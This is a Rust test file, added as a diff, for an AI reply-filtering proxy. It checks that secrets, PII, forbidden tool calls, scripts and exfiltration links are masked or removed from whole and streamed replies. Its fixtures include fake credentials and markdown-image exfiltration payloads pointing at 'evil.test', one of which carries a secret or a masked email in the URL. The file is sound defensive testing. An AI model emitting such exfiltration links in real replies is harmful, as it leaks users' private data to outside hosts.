@@ -1,0 +1,269 @@
+//! Replies, whole and as streams: what must not leave does not, and everything else leaves byte for byte.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "a test may fail")]
+
+mod common;
+
+use common::road::{Answer, Road, ask};
+use proptest::prelude::*;
+use serde_json::{Value, json};
+
+const KEY: &str = "AKIAQ7EXAMPL3TE5TKXQ";
+const JSON: &str = "application/json";
+const SSE: &str = "text/event-stream; charset=utf-8";
+
+fn road(output: Value) -> Road {
+    Road::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "flag" }, "output": output }))
+}
+
+fn whole(text: &str) -> Vec<u8> {
+    json!({ "id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "small",
+        "choices": [{ "index": 0, "message": { "role": "assistant", "content": text }, "finish_reason": "stop" }],
+        "usage": { "prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7 } })
+    .to_string()
+    .into_bytes()
+}
+
+fn event(delta: &Value, finish: &Value) -> String {
+    let data = json!({ "id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "small",
+        "choices": [{ "index": 0, "delta": delta, "finish_reason": finish }] });
+    format!("data: {data}\n\n")
+}
+
+fn stream(pieces: &[&str]) -> Vec<u8> {
+    let mut out = event(&json!({ "role": "assistant", "content": "" }), &Value::Null);
+    for piece in pieces {
+        out += &event(&json!({ "content": piece }), &Value::Null);
+    }
+    out += &event(&json!({}), &json!("stop"));
+    (out + "data: [DONE]\n\n").into_bytes()
+}
+
+/// The text that a client puts together, and how it ended.
+fn read(answer: &Answer) -> (String, String) {
+    let (mut text, mut finish) = (String::new(), String::new());
+    for line in answer.text().lines() {
+        let Some(data) = line.strip_prefix("data: ") else { continue };
+        if data == "[DONE]" {
+            finish += " done";
+            continue;
+        }
+        let choice = &serde_json::from_str::<Value>(data).unwrap()["choices"][0];
+        text += choice["delta"]["content"].as_str().unwrap_or_default();
+        finish += choice["finish_reason"].as_str().unwrap_or_default();
+    }
+    (text, finish)
+}
+
+fn content(answer: &Answer) -> String {
+    let body: Value = serde_json::from_slice(&answer.body).unwrap();
+    body["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
+}
+
+#[test]
+fn a_whole_reply_is_masked_flagged_or_refused() {
+    let text = format!("Use {KEY} or write to jane@example.org.");
+    let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
+    assert_eq!(content(&answer), "Use [SECRET_1] or write to jane@example.org.");
+    assert_eq!(answer.record["bartizan.verdict"], "mask");
+    assert_eq!(answer.record["gen_ai.usage.output_tokens"], 4);
+    let length = answer.headers.set.iter().find(|(name, _)| *name == "content-length").unwrap();
+    assert_eq!(length.1, answer.body.len().to_string());
+    let actions: Vec<&str> =
+        answer.record["bartizan.findings"].as_array().unwrap().iter().map(|f| f["action"].as_str().unwrap()).collect();
+    assert_eq!(actions, ["mask", "flag"]);
+
+    let (_, answer) = road(json!({ "pii": "hash" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
+    assert!(content(&answer).contains("[EMAIL_h"), "{}", content(&answer));
+
+    let (_, answer) = road(json!({ "secrets": "block" })).answered(&ask("hi"), JSON, &[&whole(&text)]);
+    assert_eq!(answer.status(), "400");
+    assert!(answer.text().contains("content_filter") && !answer.text().contains(KEY));
+    assert_eq!(answer.record["bartizan.reason"], "scan.secret");
+}
+
+#[test]
+fn weak_mode_refuses_in_the_body() {
+    let mut road = Road::new(|document| {
+        document["holdHeaders"] = json!(false);
+        document["audit"] = json!({});
+        document["guards"]["standard"] = json!({ "output": { "secrets": "block" } });
+    });
+    let (_, answer) = road.answered(&ask("hi"), JSON, &[&whole(&format!("Use {KEY}."))]);
+    assert_eq!(answer.status(), "200");
+    assert!(answer.text().contains("content_filter") && !answer.text().contains(KEY));
+    assert!(answer.headers.remove.contains(&b"content-length".to_vec()));
+}
+
+#[test]
+fn a_reply_without_findings_is_not_touched() {
+    let odd = b"{ \"choices\" : [ {\"index\":0 ,\"message\":{\"content\":\"caf\\u00e9 \\/ 1.50\"}} ] , \"x\":1.0e2 }\n";
+    let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[odd]);
+    assert_eq!(answer.body, odd);
+    assert_eq!(answer.record["bartizan.verdict"], "allow");
+}
+
+#[test]
+fn what_can_not_be_read_does_not_pass() {
+    for (content_type, body) in [
+        (JSON, &b"{\"choices\": [{]"[..]),
+        (JSON, b"not json"),
+        (JSON, br#"{"a":1,"a":2}"#),
+        ("text/html", b"<p>hello"),
+        (SSE, b"data: {broken\n\n"),
+    ] {
+        let (_, answer) = road(json!({})).answered(&ask("hi"), content_type, &[body]);
+        assert!(!answer.text().contains("broken") && !answer.text().contains("hello"), "{}", answer.text());
+        assert_eq!(answer.record["bartizan.reason"], "reply.unreadable", "{content_type}");
+    }
+}
+
+#[test]
+fn a_reply_that_is_too_large_is_refused_and_the_rest_dropped() {
+    let mut road = Road::new(|document| document["limits"] = json!({ "maxResponseBytes": 2000 }));
+    let long = whole(&"word ".repeat(1000));
+    let (_, answer) = road.answered(&ask("hi"), JSON, &[&long]);
+    assert_eq!((answer.status(), &answer.record["bartizan.reason"]), ("502", &json!("reply.tooLarge")));
+    let event = stream(&[&"word ".repeat(1000)]);
+    let (_, answer) = road.answered(&ask("hi"), SSE, &[&event]);
+    assert_eq!(read(&answer).1, "content_filter done");
+    assert_eq!(answer.record["bartizan.reason"], "reply.tooLarge");
+}
+
+#[test]
+fn tools_that_the_role_may_not_call_are_cut_out() {
+    let call = |name: &str| json!({ "id": name, "type": "function", "function": { "name": name, "arguments": "{}" } });
+    let reply = json!({ "choices": [{ "index": 0, "finish_reason": "tool_calls",
+        "message": { "role": "assistant", "content": null, "tool_calls": [call("search_web"), call("delete_all")] } }] });
+    let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[reply.to_string().as_bytes()]);
+    let body: Value = serde_json::from_slice(&answer.body).unwrap();
+    assert_eq!(body["choices"][0]["message"]["tool_calls"], json!([call("search_web")]));
+
+    let mut events = event(
+        &json!({ "tool_calls": [{ "index": 0, "id": "a",
+        "function": { "name": "delete_all", "arguments": "" } }] }),
+        &Value::Null,
+    );
+    events +=
+        &event(&json!({ "tool_calls": [{ "index": 0, "function": { "arguments": "{\"x\":1}" } }] }), &Value::Null);
+    events += &event(&json!({}), &json!("tool_calls"));
+    events += "data: [DONE]\n\n";
+    let (_, answer) = road(json!({})).answered(&ask("hi"), SSE, &[events.as_bytes()]);
+    assert!(!answer.text().contains("delete_all") && !answer.text().contains("x\\\":1"), "{}", answer.text());
+    assert_eq!(read(&answer).1, "stop done");
+}
+
+#[test]
+fn images_links_and_scripts_follow_the_policy() {
+    let text =
+        "Look: ![x](https://evil.test/p.png?d=secret) <script>x()</script> and ![y](https://docs.example.org/a.png)";
+    let output = json!({ "exfiltration": "remove", "script": "remove", "allowHosts": ["docs.example.org"] });
+    let (_, answer) = road(output.clone()).answered(&ask("hi"), JSON, &[&whole(text)]);
+    assert_eq!(content(&answer), "Look: [removed] [removed]x()</script> and ![y](https://docs.example.org/a.png)");
+    let pieces: Vec<String> = text.chars().map(String::from).collect();
+    let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+    let (_, streamed) = road(output).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
+    assert_eq!(read(&streamed).0, content(&answer));
+    let (_, answer) = road(json!({ "exfiltration": "block" })).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
+    assert_eq!(read(&answer), ("Look: ".to_owned(), "content_filter done".to_owned()));
+    assert_eq!(answer.record["bartizan.reason"], "scan.output");
+    let (_, answer) = road(json!({})).answered(&ask("hi"), SSE, &[&stream(&pieces)]);
+    assert_eq!(read(&answer).0, text);
+    assert_eq!(answer.record["bartizan.findings"][0]["rule"], "output.exfiltration");
+}
+
+#[test]
+fn a_secret_is_masked_across_every_boundary() {
+    for secret in [KEY, "ghp_R4nd0mT0kenThatIsNotReal1234567890AB", "postgres://app:s3cr3tPassw0rd@db.internal:5432/x"]
+    {
+        let text = format!("The key is {secret} as you asked. Anything else?");
+        let expected = {
+            let (_, answer) = road(json!({})).answered(&ask("hi"), JSON, &[&whole(&text)]);
+            content(&answer)
+        };
+        assert!(!expected.contains(secret) && expected.contains("[SECRET_1]"), "{expected}");
+        let mut road = road(json!({}));
+        for cut in 0..=text.len() {
+            let (_, answer) = road.answered(&ask("hi"), SSE, &[&stream(&[&text[..cut], &text[cut..]])]);
+            assert_eq!(read(&answer), (expected.clone(), "stop done".to_owned()), "{cut}");
+        }
+    }
+}
+
+#[test]
+fn ordinary_words_do_not_wait_for_each_other() {
+    let mut road = road(json!({}));
+    let events = stream(&["The ", "castle ", "has ", "two ", "towers."]);
+    let first_three: Vec<&[u8]> = events.split_inclusive(|byte| *byte == b'\n').collect();
+    // The first eight lines: the role, and three words with their empty lines.
+    let some: Vec<u8> = first_three[..8].concat();
+    let (_, answer) = road.answered(&ask("hi"), SSE, &[&some]);
+    assert_eq!(read(&answer).0, "The castle has ");
+}
+
+#[test]
+fn masked_values_come_back_to_the_one_who_sent_them() {
+    let mut road = Road::new(|document| document["guards"]["standard"] = json!({ "pii": { "action": "restore" } }));
+    let text = "Write a letter to jane@example.org please.";
+    let (sent, _) = road.answered(&ask(text), JSON, &[&whole("ok")]);
+    let sent: Value = serde_json::from_slice(&sent).unwrap();
+    let asked = sent["messages"][0]["content"].as_str().unwrap();
+    assert!(asked.contains("[EMAIL_r") && !asked.contains("jane@"), "{asked}");
+    let placeholder = &asked[asked.find('[').unwrap()..=asked.find(']').unwrap()];
+    let reply = format!("Dear {placeholder}, see ![x](https://evil.test/?{placeholder}).");
+    let (_, answer) = road.answered(&ask(text), JSON, &[&whole(&reply)]);
+    assert_eq!(content(&answer), format!("Dear jane@example.org, see ![x](https://evil.test/?{placeholder})."));
+    for cut in 0..=reply.len() {
+        let (_, streamed) = road.answered(&ask(text), SSE, &[&stream(&[&reply[..cut], &reply[cut..]])]);
+        assert_eq!(read(&streamed).0, content(&answer), "{cut}");
+    }
+    // Another conversation knows nothing of it, and what a client sends in that form comes back as it was.
+    let (_, other) = road.answered(&ask("hello"), JSON, &[&whole(&reply)]);
+    assert_eq!(content(&other), reply);
+    let (sent, _) = road.answered(&ask(&format!("what is {placeholder}?")), JSON, &[&whole("ok")]);
+    assert!(!String::from_utf8(sent).unwrap().contains(placeholder));
+}
+
+/// Compiling the rules takes longer than a case.
+static ROAD: std::sync::LazyLock<std::sync::Mutex<Road>> = std::sync::LazyLock::new(|| road(json!({})).into());
+
+proptest! {
+    #![proptest_config(ProptestConfig { max_shrink_iters: 200, ..ProptestConfig::with_cases(40) })]
+
+    /// A thousand streams of any words and cuts: nothing found, nothing changed; something found, nothing left of it.
+    #[test]
+    fn any_cutting_of_a_stream_gives_the_same_text(
+        words in prop::collection::vec(prop_oneof![
+            8 => "[a-z]{1,9}[ .,]{0,2}",
+            1 => Just(format!(" {KEY} ")),
+            1 => Just("é中文 ".to_owned()),
+            1 => Just("12 March 1985 ".to_owned()),
+        ], 1..40),
+        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..20),
+        bytes in prop::collection::vec(any::<prop::sample::Index>(), 0..20),
+    ) {
+        let text = words.concat();
+        let mut road = ROAD.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
+        let split = |places: &[prop::sample::Index], length: usize, floor: &dyn Fn(usize) -> usize| {
+            let mut at: Vec<usize> = places.iter().map(|place| floor(place.index(length + 1))).collect();
+            at.extend([0, length]);
+            at.sort_unstable();
+            at
+        };
+        let at = split(&cuts, text.len(), &|place| text.floor_char_boundary(place));
+        let pieces: Vec<&str> = at.windows(2).map(|pair| &text[pair[0]..pair[1]]).collect();
+        let events = stream(&pieces);
+        let at = split(&bytes, events.len(), &|place| place);
+        let chunks: Vec<&[u8]> = at.windows(2).map(|pair| &events[pair[0]..pair[1]]).collect();
+        let (_, answer) = road.answered(&ask("hi"), SSE, &chunks);
+        let (masked, finish) = read(&answer);
+        prop_assert_eq!(finish, "stop done");
+        if text.contains(KEY) {
+            prop_assert!(!masked.contains(KEY));
+        } else if answer.record["bartizan.verdict"] == "allow" {
+            prop_assert_eq!(answer.body, events);
+        }
+        let (_, whole) = road.answered(&ask("hi"), JSON, &[&whole(&text)]);
+        prop_assert_eq!(masked, content(&whole));
+    }
+}
